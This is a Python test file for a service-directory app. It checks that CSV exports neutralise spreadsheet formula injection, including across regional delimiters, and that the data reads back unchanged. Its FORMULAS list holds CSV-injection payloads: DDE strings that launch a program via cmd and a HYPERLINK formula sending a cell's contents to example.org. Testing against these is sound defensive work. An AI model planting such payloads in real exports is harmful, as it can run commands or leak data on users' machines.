"""What a spreadsheet would run is written as text, and reads back as what it was."""

import csv
import json
import re
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from domain.directory.files.formulas import as_meant, disarmed
from domain.directory.files.reading import read_directory
from domain.directory.files.sources import SourceFile
from domain.directory.files.writing import write_directory
from tests.domain.directory.samples import clinic, files_in, json_file

HOUSE = Path(__file__).parents[3]
FORMULAS = (
    '=HYPERLINK("http://example.org/?"&A1)',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    "'=1+1",
    "''@x",
)
LETTERS = st.text("=+-@'\t\r\n;,＝ a1(.", max_size=8)


@given(LETTERS | st.text(max_size=20))
def test_every_text_comes_back_and_none_goes_out_as_a_formula(text: str) -> None:
    out = disarmed(text)

    assert isinstance(out, str)
    assert as_meant(out) == text
    assert not re.match(r"[=@\t\r\n＝＋－＠]", out)
    assert not re.match(r"[+\-]", out) or re.fullmatch(r"[+\-][\d ().\-/]*", out)


def poisoned(formula: str) -> dict[str, Any]:
    """A service that says it wherever a file can say something."""
    document = clinic(name=formula, description=formula, fees_description=formula)
    document["organization"] |= {"name": formula, "description": formula}
    document["phones"] = [{"number": "+355 4 555 0101", "description": formula}]
    document["required_documents"] = [{"document": formula}]
    document["attributes"] = [{"id": "a", "taxonomy_term": {"id": "t", "name": formula}}]
    return document


@pytest.mark.parametrize("formula", FORMULAS)
def test_an_exported_directory_holds_no_formula_and_reads_back_the_same(formula: str) -> None:
    services = read_directory([json_file([poisoned(formula)])]).services
    exported = files_in("out.zip", write_directory(services))

    cells = [
        cell
        for file in exported
        if file.name.endswith(".csv")
        for row in csv.reader(StringIO(file.data.decode(), newline=""))
        for cell in row
    ]
    assert sum(formula in cell for cell in cells) >= 5
    assert [cell for cell in cells if re.match(r"[=@\t\r＝＋－＠]|[+\-].*[^\d ().\-/]", cell)] == []
    assert "+355 4 555 0101" in cells
    assert read_directory(exported).services == services


@pytest.mark.parametrize("delimiter", [";", "\t", ","])
@pytest.mark.parametrize("between", [";", ",", "\t", "\n", "\r\n"])
@pytest.mark.parametrize("formula", FORMULAS[:5])
def test_no_spreadsheet_of_a_country_with_another_separator_finds_a_formula(
    delimiter: str, between: str, formula: str
) -> None:
    text = f"Soup{between}{formula}{between}bread"
    services = read_directory([json_file([clinic(description=text)])]).services
    exported = files_in("out.zip", write_directory(services))

    [table] = [file.data.decode() for file in exported if file.name == "services.csv"]
    cells = [
        cell for row in csv.reader(StringIO(table, newline=""), delimiter=delimiter) for cell in row
    ]
    assert [cell for cell in cells if re.match(r"[=+\-@]", cell)] == []
    assert read_directory(exported).services == services


def test_a_list_in_a_text_stays_a_list() -> None:
    text = "We have:\n- food\n- beds; -3 to +5 years,+355 4 555 0101"

    assert disarmed(text) == text


def test_a_cell_that_a_spreadsheet_disarmed_is_read_as_it_was_meant() -> None:
    text = json.dumps("'=1+1")
    sheet = f"id,name,status\n1,{text},active\n"

    [service] = read_directory([SourceFile("services.csv", sheet.encode())]).services
    assert service.name == "=1+1"


def test_what_a_spreadsheet_reads_is_written_by_three_modules_and_disarmed_where_not_our_own() -> (
    None
):
    writers = {
        str(path.relative_to(HOUSE))
        for package in ("bot", "console", "dialogs", "domain", "handlers", "storage")
        for path in (HOUSE / package).rglob("*.py")
        if re.search(r"csv\.(Dict)?[wW]riter|import Workbook|xlsxwriter", path.read_text())
    }
    template = "domain/questionnaires/forms/template.py"  # nothing in it but our own words

    assert writers == {"console/files/tables.py", "domain/directory/files/writing.py", template}
    assert all("disarmed(cell)" in (HOUSE / writer).read_text() for writer in writers - {template})
